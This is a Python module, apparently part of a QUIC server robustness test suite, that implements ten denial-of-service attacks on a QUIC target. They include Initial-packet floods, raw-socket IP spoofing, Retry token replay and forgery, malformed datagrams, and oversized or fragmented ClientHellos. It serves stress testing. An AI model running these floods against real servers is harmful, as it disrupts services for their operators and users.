"""Attacks by first packets: of handshakes that never end, from addresses that nobody has, with stolen tokens."""

import os
import random
import socket
import struct
import time
from collections.abc import Iterator

from aioquic.quic.packet import QuicPacketType, pull_quic_header
from aioquic.buffer import Buffer
from aioquic.tls import Epoch

from report import Report
from wire import DATAGRAM, PING, Target, Wire, client_hello, crypto_frame, frame, initial, packed

# Where forged datagrams say that they come from: addresses for benchmarks (RFC 2544), which the test routes
# to the client's namespace, where nobody has them.
FORGED = "198.18."
# How many a second: what one core of a client sends without effort.
RATE = 2000


def udp(target: Target) -> socket.socket:
    """A socket towards the target."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setblocking(False)
    made.connect((target.host, target.port))
    return made


def hello(target: Target) -> tuple[bytes, bytes]:
    """A client's connection ID and its CRYPTO bytes."""
    source = os.urandom(8)
    return source, client_hello(target, source)


class Pace:
    """Bursts at a rate."""

    def __init__(self, rate: int = RATE, burst: int = 20) -> None:
        self.burst = burst
        self.every = burst / rate
        self.next = time.monotonic()

    def wait(self) -> range:
        """Waits for the next burst."""
        time.sleep(max(0.0, self.next - time.monotonic()))
        self.next = max(self.next + self.every, time.monotonic())
        return range(self.burst)


def sent(socket: socket.socket, datagram: bytes) -> None:
    """Sends; what is not taken is lost."""
    try:
        socket.send(datagram)
    except (BlockingIOError, ConnectionRefusedError):
        pass


def half_open(target: Target, report: Report) -> Iterator[None]:
    """First packets of clients that never go on, all from one address."""
    source, crypto = hello(target)
    pace, out = Pace(), udp(target)
    while True:
        for _ in pace.wait():
            sent(out, initial(crypto_frame(crypto, 0), os.urandom(8), source))
            report.add("initials")
        yield


def raw_udp(source: str, port: int, target: Target, payload: bytes) -> bytes:
    """An IPv4 packet from anybody. The kernel fills in its length and checksum."""
    packed_source, packed_target = socket.inet_aton(source), socket.inet_aton(target.host)
    length = 8 + len(payload)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, packed_source, packed_target)
    pseudo = packed_source + packed_target + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    ports = struct.pack("!HHH", port, target.port, length)
    data = pseudo + ports + b"\0\0" + payload + b"\0" * (length % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return header + ports + struct.pack("!H", (~total & 0xFFFF) or 0xFFFF) + payload


def forged_address() -> str:
    """An address that nobody has."""
    return f"{FORGED}{random.randrange(1, 255)}.{random.randrange(1, 255)}"


def spoofed(target: Target, report: Report) -> Iterator[None]:
    """First packets from addresses that nobody has, a new one each time."""
    source, crypto = hello(target)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pace = Pace()
    while True:
        for _ in pace.wait():
            datagram = initial(crypto_frame(crypto, 0), os.urandom(8), source)
            port = random.randrange(1024, 65536)
            out.sendto(raw_udp(forged_address(), port, target, datagram), (target.host, 0))
            report.add("initials")
        yield


def retry_token(target: Target, wire: Wire) -> tuple[bytes, bytes]:
    """The token of a Retry that answers the wire's first packet, and the ID that came with it."""
    wire.connect()
    for data, _ in wire.quic.datagrams_to_send(now=time.monotonic()):
        wire.put(data)
    wire.socket.setblocking(True)
    wire.socket.settimeout(5.0)
    header = pull_quic_header(Buffer(data=wire.socket.recv(2048)), host_cid_length=8)
    wire.socket.setblocking(False)
    assert header.packet_type == QuicPacketType.RETRY, header
    return header.token, header.source_cid


def replayed_retries(target: Target, report: Report) -> Iterator[None]:
    """One token from other ports, with other IDs and altered; and once more where it belongs."""
    wire = Wire(target)
    token, identity = retry_token(target, wire)
    mine = wire.socket.getsockname()[1]
    source, crypto = hello(target)
    first = crypto_frame(crypto, 0)
    pace, elsewhere, here = Pace(), udp(target), wire.socket
    here.connect((target.host, target.port))
    while True:
        for turn in pace.wait():
            altered = bytearray(token)
            altered[random.randrange(10, len(token))] ^= 1
            kinds = [
                (elsewhere, identity, token),
                (here, os.urandom(20), token),
                (here, identity, bytes(altered)),
                (here, identity, token),
            ]
            out, destination, used = kinds[turn % len(kinds)]
            sent(out, initial(first, destination, source, token=used))
            report.add(f"from {'here' if out.getsockname()[1] == mine else 'elsewhere'}")
        yield


def foreign_tokens(target: Target, report: Report) -> Iterator[None]:
    """Tokens of all lengths that this server never made."""
    source, crypto = hello(target)
    pace, out = Pace(), udp(target)
    while True:
        for turn in pace.wait():
            token = bytes([0xE1 if turn % 2 else turn]) + os.urandom(random.randrange(0, 500))
            sent(out, initial(crypto_frame(crypto, 0), os.urandom(8), source, token=token))
            report.add("initials")
        yield


def other_versions(target: Target, report: Report) -> Iterator[None]:
    """Versions that nobody speaks, with connection IDs as long as there can be."""
    pace, out = Pace(), udp(target)
    while True:
        for _ in pace.wait():
            ids = bytes([255]) + os.urandom(255)
            sent(out, (b"\xc0" + os.urandom(3) + b"\xfa" + ids + ids).ljust(DATAGRAM, b"\0"))
            report.add("datagrams")
        yield


def garbage(target: Target, report: Report) -> Iterator[None]:
    """Datagrams of all kinds that are none: empty, random, short IDs, small Initials, unknown connections."""
    source, crypto = hello(target)
    first = crypto_frame(crypto, 0)
    pace, out = Pace(), udp(target)
    while True:
        for turn in pace.wait():
            kinds = [
                b"",
                os.urandom(1),
                os.urandom(random.randrange(1, 1472)),
                bytes([0x40]) + os.urandom(1400),
                initial(first, os.urandom(8), source, size=len(first) + 100)[:1199],
                initial(first, os.urandom(4), source),
                initial(first, os.urandom(8), source, keys=b"of another"),
                initial(os.urandom(1000), os.urandom(8), source),
                initial(b"", os.urandom(8), source),
                bytes([0xE3]) + initial(first, os.urandom(8), source)[1:],
            ]
            sent(out, kinds[turn % len(kinds)])
            report.add("datagrams")
        yield


def finish(wire: Wire, report: Report) -> None:
    """Lets a handshake that was begun by hand come to its end."""
    wire.until(lambda: wire.established, 5.0)
    report.add("handshakes", int(wire.established))
    report.leave(wire)


def begun(target: Target) -> tuple[Wire, bytes]:
    """A connection whose first flight was made and not sent, and its CRYPTO bytes."""
    wire = Wire(target)
    wire.connect()
    crypto = bytes(wire.quic._crypto_streams[Epoch.INITIAL].sender._buffer)
    wire.quic.datagrams_to_send(now=time.monotonic())
    return wire, crypto


def put_initials(wire: Wire, frames: list[bytes]) -> None:
    """Sends frames in Initial packets of the wire's connection."""
    quic = wire.quic
    for payload in packed(frames, DATAGRAM - 80):
        keys = quic.original_destination_connection_id
        wire.put(initial(payload, quic._peer_cid.cid, quic.host_cid, number=quic._packet_number, keys=keys))
        quic._packet_number += 1


def reversed_hello(target: Target, report: Report) -> Iterator[None]:
    """A first flight in CRYPTO frames of one byte, from the last to the first; it is a handshake all the same."""
    while True:
        wire, crypto = begun(target)
        put_initials(wire, [crypto_frame(crypto[at : at + 1], at) for at in reversed(range(len(crypto)))])
        finish(wire, report)
        yield


def gapped_hello(target: Target, report: Report) -> Iterator[None]:
    """First flights that lack a byte, with every other byte twice, and CRYPTO far behind them."""
    while True:
        wire, crypto = begun(target)
        frames = [crypto_frame(crypto[at : at + 2], at) for at in range(1, len(crypto))]
        frames += [crypto_frame(b"x", 60_000 - 2 * at) for at in range(1000)]
        put_initials(wire, frames)
        wire.step(0.01)
        report.add("hits")
        report.leave(wire)
        yield


def endless_hello(target: Target, report: Report) -> Iterator[None]:
    """CRYPTO without end in first packets."""
    while True:
        wire, _ = begun(target)
        # A ClientHello of 16 MB is announced.
        start = b"\x01\xff\xff\xff" + bytes(996)
        put_initials(wire, [crypto_frame(start, 0)])
        for offset in range(1000, 80_000, 1000):
            put_initials(wire, [crypto_frame(bytes(1000), offset)])
            wire.step()
        wire.until(lambda wire=wire: wire.closed is not None, 2.0)
        report.leave(wire)
        yield


def pinged_hello(target: Target, report: Report) -> Iterator[None]:
    """Handshakes that are never ended and kept alive by PING."""
    source, crypto = hello(target)
    pace, out = Pace(), udp(target)
    names = [os.urandom(8) for _ in range(200)]
    number = 0
    while True:
        for turn in pace.wait():
            payload = crypto_frame(crypto, 0) if number < len(names) else frame(PING)
            sent(out, initial(payload, names[number % len(names)], source, number=number // len(names)))
            number += 1
            report.add("initials")
        yield


ATTACKS = [
    half_open,
    spoofed,
    replayed_retries,
    foreign_tokens,
    other_versions,
    garbage,
    reversed_hello,
    gapped_hello,
    endless_hello,
    pinged_hello,
]
